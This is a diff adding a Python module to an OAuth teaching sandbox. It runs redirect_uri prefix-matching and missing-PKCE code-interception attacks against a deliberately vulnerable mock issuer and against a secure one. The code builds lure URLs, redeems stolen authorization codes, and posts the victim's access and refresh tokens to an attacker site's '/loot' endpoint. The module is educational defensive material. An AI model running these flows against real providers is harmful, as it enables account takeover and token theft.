@@ -1,0 +1,310 @@
+"""Secure and vulnerable, side by side: each attack against a VULNERABLE and a secure issuer.
+
+Each attack page runs the same flow twice. Against the mock provider's deliberately vulnerable
+issuer (`/scenarios/vulnerable-...`, one weakened check) the attack succeeds: the attacker's site
+(`attacker.py`) catches the authorization code, and the attacker, played by this module, redeems
+it for the user's tokens. Against the default issuer the same moves fail, and the page quotes the
+check that stopped them from the provider's request log. Authlib builds the authorization URL
+(with PKCE) and makes the token request, as everywhere else in the sandbox.
+"""
+
+from __future__ import annotations
+
+import threading
+from dataclasses import dataclass, field
+from typing import Any
+from urllib.parse import urlsplit
+
+import requests
+from authlib.common.security import generate_token
+from authlib.integrations.base_client import OAuthError
+
+from . import scenarios
+from .config import SandboxConfig
+from .discovery import WELL_KNOWN, DiscoveryError, discover
+from .provider_client import ClientCredentials, Registrations, oauth_session
+from .recorder import Run
+
+SCOPE = "openid profile email photos.read"
+SETTINGS = ("vulnerable", "secure")
+
+
+@dataclass(frozen=True)
+class Attack:
+    """One attack: the VULNERABLE issuer it needs, and how the victim's client is set up."""
+
+    id: str  # kebab-case, in the page's URL
+    title: str
+    scenario: str  # the catalogue id of the VULNERABLE issuer
+    story: str  # what the attacker does, in plain words
+    trick: str  # one sentence: why it works; {registered}, {redirect_uri}, {attacker} filled in
+    stopped_by: str  # what stops it under the secure issuer
+    #: (sandbox config) -> (the redirect_uris the victim's client registers, the one the
+    #: authorization request sends)
+    redirect_uris: Any
+    #: Who holds the PKCE code_verifier: "attacker" (it built the request), "client" (the
+    #: victim's client; only under the secure issuer: the vulnerable one lets it skip PKCE).
+    verifier_held_by: str
+
+
+def _prefix_uris(config: SandboxConfig) -> tuple[list[str], str]:
+    attacker = urlsplit(config.attacker_base_url).netloc
+    return [config.base_url], f"{config.base_url}@{attacker}/steal"
+
+
+def _intercepted_uris(config: SandboxConfig) -> tuple[list[str], str]:
+    uri = f"{config.attacker_base_url}/intercepted"
+    return [uri], uri
+
+
+ATTACKS: dict[str, Attack] = {
+    attack.id: attack
+    for attack in (
+        Attack(
+            id="redirect-prefix",
+            title="Lenient redirect_uri matching sends the code to the attacker",
+            scenario="vulnerable-redirect-prefix",
+            story="The victim's client registered its site's origin as its redirect URI. The "
+            "attacker builds an authorization request with that client's client_id, a "
+            "code_challenge of the attacker's own, and a redirect_uri of the attacker's choosing, "
+            "and lures the signed-in victim into following it.",
+            trick="The attacker's redirect_uri {redirect_uri} starts with the registered "
+            "{registered}, but everything before the @ is a user name, so the browser goes to "
+            "{attacker}: the attacker's site.",
+            stopped_by="redirect_uri exact match",
+            redirect_uris=_prefix_uris,
+            verifier_held_by="attacker",
+        ),
+        Attack(
+            id="pkce-optional",
+            title="Without PKCE, an intercepted code is redeemed by the attacker",
+            scenario="vulnerable-pkce-optional",
+            story="A public client (a mobile app) sends the user to the provider. A malicious "
+            "app that claimed the same redirect URI scheme intercepts the redirect and, holding "
+            "the code, redeems it with the public client_id: a public client has no secret.",
+            trick="Here the attacker's site plays the malicious app: the operating system hands "
+            "it the redirect, as it may when two apps claim one custom URI scheme.",
+            stopped_by="PKCE",
+            redirect_uris=_intercepted_uris,
+            verifier_held_by="client",
+        ),
+    )
+}
+
+
+def trick(attack: Attack, config: SandboxConfig) -> str:
+    """The attack's one-sentence explanation, with this sandbox's real URLs."""
+    registered, redirect_uri = attack.redirect_uris(config)
+    attacker = urlsplit(config.attacker_base_url).netloc
+    return attack.trick.format(
+        registered=registered[0], redirect_uri=redirect_uri, attacker=attacker
+    )
+
+
+@dataclass
+class AttackRun:
+    """One pass of an attack under one setting: the lure, what was caught, what it bought."""
+
+    attack: Attack
+    setting: str  # "vulnerable" or "secure"
+    run: Run  # provider metadata, the victim client's credentials, recorded exchanges
+    authorization_url: str = ""
+    state: str = ""
+    redirect_uri: str = ""
+    attacker_verifier: str | None = None  # the verifier the attacker knows, if any
+    stolen: dict[str, str] | None = None  # the query the attacker's site caught
+    tokens: dict[str, Any] | None = None
+    userinfo: dict[str, Any] | None = None
+    blocked: list[dict[str, Any]] = field(default_factory=list)  # failed provider checks
+    outcome: str = ""
+
+
+class AttackRuns:
+    """The latest run of each attack and setting, per learner."""
+
+    def __init__(self) -> None:
+        self._runs: dict[tuple[str, str, str], AttackRun] = {}
+        self._lock = threading.Lock()
+
+    def put(self, learner: str, attack_run: AttackRun) -> None:
+        with self._lock:
+            self._runs[(learner, attack_run.attack.id, attack_run.setting)] = attack_run
+
+    def get(self, learner: str, attack_id: str, setting: str) -> AttackRun | None:
+        with self._lock:
+            return self._runs.get((learner, attack_id, setting))
+
+
+class AttackUnavailable(Exception):
+    """The attack cannot run; the message says why and what to do."""
+
+
+def start(
+    attack: Attack, setting: str, config: SandboxConfig, registrations: Registrations
+) -> AttackRun:
+    """Register the victim's client at the setting's issuer and build the link to follow."""
+    issuer = _issuer(attack, setting, config)
+    run = Run(flow="authorization-code", variant="public-pkce", issuer=issuer)
+    try:
+        run.provider = discover(issuer, run)
+    except DiscoveryError as error:
+        raise AttackUnavailable(str(error)) from None
+    registered, redirect_uri = attack.redirect_uris(config)
+    run.credentials = _victim_client(attack, run, registered, registrations)
+    attack_run = AttackRun(
+        attack, setting, run, state=generate_token(16), redirect_uri=redirect_uri
+    )
+    # Under the vulnerable issuer the pkce-optional victim skips PKCE, as legacy apps do.
+    uses_pkce = not (attack.verifier_held_by == "client" and setting == "vulnerable")
+    verifier = generate_token(48) if uses_pkce else None
+    attack_run.attacker_verifier = verifier if attack.verifier_held_by == "attacker" else None
+    session = _session(attack_run, "authorization_request", pkce=uses_pkce)
+    extra = {"code_verifier": verifier} if verifier else {}
+    attack_run.authorization_url, _ = session.create_authorization_url(
+        run.provider.authorization_endpoint,
+        state=attack_run.state,
+        nonce=generate_token(16),
+        **extra,
+    )
+    return attack_run
+
+
+def _victim_client(
+    attack: Attack, run: Run, registered: list[str], registrations: Registrations
+) -> ClientCredentials:
+    """The victim's public client at the run's issuer, registered once (RFC 7591)."""
+    kind = f"victim-{attack.id}"
+    return registrations.get(run.issuer, kind) or registrations.register(
+        run.provider,
+        run,
+        kind,
+        {
+            "client_name": f"the victim's client ({attack.id} demo)",
+            "redirect_uris": registered,
+            "grant_types": ["authorization_code"],
+            "response_types": ["code"],
+            "scope": SCOPE,
+            "token_endpoint_auth_method": "none",  # a public client: no secret to steal
+        },
+    )
+
+
+def _issuer(attack: Attack, setting: str, config: SandboxConfig) -> str:
+    """The VULNERABLE scenario's issuer from the provider's catalogue, or the default one."""
+    if setting == "secure":
+        return config.issuer
+    try:
+        scenario = scenarios.find(config.issuer, attack.scenario)
+    except scenarios.ScenariosUnavailable as error:
+        raise AttackUnavailable(str(error)) from None
+    if scenario is None:
+        raise AttackUnavailable(f"The provider offers no {attack.scenario} issuer.")
+    try:
+        response = requests.get(scenario.issuer + WELL_KNOWN, timeout=10)
+        if response.status_code == 403:  # beyond loopback, without the instructor token
+            raise AttackUnavailable(response.json().get("error_description", "403 Forbidden"))
+    except (requests.RequestException, ValueError):
+        pass  # discovery, next, says what is wrong
+    return scenario.issuer
+
+
+def redeem(attack_run: AttackRun, config: SandboxConfig) -> None:
+    """Play the attacker: find the code the site caught, redeem it, use the tokens."""
+    attack_run.stolen = _caught(attack_run, config)
+    code = (attack_run.stolen or {}).get("code")
+    if code:
+        session = _session(attack_run, "token_request", pkce=False)
+        extra = (
+            {"code_verifier": attack_run.attacker_verifier} if attack_run.attacker_verifier else {}
+        )
+        try:
+            attack_run.tokens = dict(
+                session.fetch_token(
+                    attack_run.run.provider.token_endpoint,
+                    code=code,
+                    redirect_uri=attack_run.redirect_uri,
+                    **extra,
+                )
+            )
+        except OAuthError as error:
+            attack_run.outcome = f"{error.error}: {error.description}"
+    if attack_run.tokens:
+        response = _session(attack_run, "userinfo_request", pkce=False).get(
+            attack_run.run.provider.userinfo_endpoint, timeout=10
+        )
+        attack_run.userinfo = response.json() if response.ok else None
+        who = (attack_run.userinfo or {}).get("preferred_username") or "the user"
+        attack_run.outcome = f"The attack succeeded: the attacker holds {who}'s tokens."
+        _report_loot(attack_run, config)
+    else:
+        attack_run.blocked = _failed_checks(attack_run)
+        attack_run.outcome = attack_run.outcome or "The attacker's site caught no code."
+
+
+def _caught(attack_run: AttackRun, config: SandboxConfig) -> dict[str, str] | None:
+    """The query of the request the attacker's site received for this run's state."""
+    try:
+        log = requests.get(f"{config.attacker_base_url}/log", timeout=10).json()
+    except (requests.RequestException, ValueError) as error:
+        raise AttackUnavailable(
+            f"The attacker's site at {config.attacker_base_url} cannot be reached "
+            f"({type(error).__name__}). `oauth-sandbox run` starts it beside the sandbox."
+        ) from None
+    return next(
+        (
+            e["query"]
+            for e in reversed(log["requests"])
+            if e["query"].get("state") == attack_run.state
+        ),
+        None,
+    )
+
+
+def _failed_checks(attack_run: AttackRun) -> list[dict[str, Any]]:
+    """The provider's failed checks for this run's requests, from its request log."""
+    control = attack_run.run.provider.control_api
+    if not control:
+        return []
+    client_id = attack_run.run.credentials.client_id
+    try:
+        entries = requests.get(f"{control}/log", params={"client_id": client_id}, timeout=10).json()
+    except (requests.RequestException, ValueError):
+        return []
+    # This run's requests: its authorization request (by state) and the code's redemption.
+    ours = {("state", attack_run.state)}
+    if code := (attack_run.stolen or {}).get("code"):
+        ours.add(("code", code))
+    return [
+        {**check, "request": entry["request"], "status": entry["status"]}
+        for entry in entries.get("entries", [])
+        if ours & {(name, entry["params"].get(name)) for name in ("state", "code")}
+        for check in entry["checks"]
+        if not check["passed"]
+    ][:3]
+
+
+def _report_loot(attack_run: AttackRun, config: SandboxConfig) -> None:
+    tokens = attack_run.tokens or {}
+    loot = {
+        "what": f"tokens for {(attack_run.userinfo or {}).get('preferred_username', 'the user')} "
+        f"({attack_run.attack.id}, {attack_run.setting} issuer)",
+        "access_token": tokens.get("access_token", ""),
+        "refresh_token": tokens.get("refresh_token", ""),
+    }
+    try:
+        requests.post(f"{config.attacker_base_url}/loot", json=loot, timeout=10)
+    except requests.RequestException:
+        pass  # the page shows the tokens anyway; the attacker's dashboard merely lacks them
+
+
+def _session(attack_run: AttackRun, step: str, pkce: bool):
+    credentials: ClientCredentials = attack_run.run.credentials
+    return oauth_session(
+        attack_run.run,
+        step,
+        credentials,
+        scope=SCOPE,
+        redirect_uri=attack_run.redirect_uri,
+        token=attack_run.tokens,
+        code_challenge_method="S256" if pkce else None,
+    )
